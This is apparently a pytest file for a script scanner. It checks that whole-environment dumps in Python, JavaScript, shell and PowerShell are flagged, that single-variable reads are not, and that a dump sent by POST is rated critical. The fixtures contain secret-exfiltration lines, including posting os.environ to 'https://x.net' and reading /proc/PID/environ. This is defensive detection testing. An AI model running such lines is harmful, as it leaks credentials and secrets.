"""The whole environment, read out in any language, is found; one variable, or a copy for a child, is not."""

import pytest

from tests.builders_review import found_in

WHOLE = {
    "a.py": [
        "import os,json\njson.dump(dict(os.environ), open('/tmp/e','w'))",
        "import os\nopen('x','w').write(str(os.environ))",
        "open(f'/proc/{pid}/environ').read()",
        "import subprocess\nsubprocess.check_output(['env'])",
        "import os\nfor k, v in os.environ.items():\n    f.write(k + v)",
        "import os,json\nx = json.dumps({**os.environ})",
        "import os\nrequests.post(u, json=dict(os.environ))",
        "p = Path('/proc') / str(pid) / 'environ'",
    ],
    "a.js": [
        "fs.writeFileSync('x', JSON.stringify(process.env))",
        "fetch(u,{method:'POST',body:JSON.stringify(process.env)})",
        "const o = Object.entries(process.env)",
        "execSync('printenv')",
    ],
    "a.sh": [
        "env > /tmp/e",
        "printenv >> log",
        "export -p > x",
        "set > vars.txt",
        "env | base64 > out",
        "cat /proc/$PID/environ | tr x y",
        "declare -x > y",
        "env | tee out",
    ],
    "a.ps1": ["Get-ChildItem Env: | Out-File x"],
}
NAMED = {
    "a.py": [
        "import os\nx = os.environ['A']",
        "import os\ny = os.environ.get('B')",
        "env = {**os.environ, 'A': '1'}\nsubprocess.run(['ls'], env=env)",
        "env = os.environ.copy()",
        "env = dict(os.environ)\nenv['A'] = 'b'",
    ],
    "a.js": [
        "const a = process.env.HOME",
        "spawn('x', {env: {...process.env, A: 1}})",
        "const e = Object.assign({}, process.env, {A: '1'})",
    ],
    "a.sh": [
        "env FOO=1 make",
        "set -e",
        "export A=b > /dev/null",
        "#!/usr/bin/env bash\nset -euo pipefail",
        'echo "A=1" >> $GITHUB_ENV',
    ],
}


def cases(scripts: dict[str, list[str]]) -> list[tuple[str, str]]:
    """Return file name and text of each script."""
    return [(name, text) for name, texts in scripts.items() for text in texts]


def rules(name: str, text: str) -> dict[str, str]:
    """Return rule and severity of what is found in a script."""
    return {finding.rule: finding.severity for finding in found_in({f"scripts/{name}": text + "\n"})}


@pytest.mark.parametrize(("name", "text"), cases(WHOLE))
def test_a_dump_is_found(name: str, text: str) -> None:
    """Copied to a file, printed, turned into JSON or read from /proc: it is a dump."""
    assert rules(name, text)["environment-dump"] == "high"


@pytest.mark.parametrize(("name", "text"), cases(NAMED))
def test_a_named_variable_is_no_dump(name: str, text: str) -> None:
    """What a script needs, or hands to a child process, is left alone."""
    assert "environment-dump" not in rules(name, text)


def test_a_dump_that_leaves_is_critical() -> None:
    """A dump and a request that sends are one finding, critical."""
    text = (
        "import json, os, requests\nx = json.dumps(dict(os.environ))\nrequests.post('https://x.net', data=x)"
    )

    assert rules("a.py", text)["secrets-leave"] == "critical"
